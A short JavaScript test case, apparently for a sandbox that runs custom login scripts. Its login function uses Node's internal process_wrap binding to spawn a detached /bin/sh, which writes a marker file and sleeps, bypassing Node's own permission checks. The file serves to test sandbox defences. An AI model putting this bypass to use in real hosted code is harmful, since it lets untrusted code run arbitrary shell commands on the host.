// attack: start a program by the binding beneath, past every check of Node's own
// needs: full
// outcome: any
function login(email, password, callback) {
  const { Process } = process.binding('process_wrap');
  const { folder, mark } = configuration;
  const code = new Process().spawn({
    file: '/bin/sh',
    args: ['sh', '-c', `touch ${folder}/${mark}; sleep 600`],
    detached: true,
    stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
  });
  callback(null, { user_id: 'attempted', code });
}
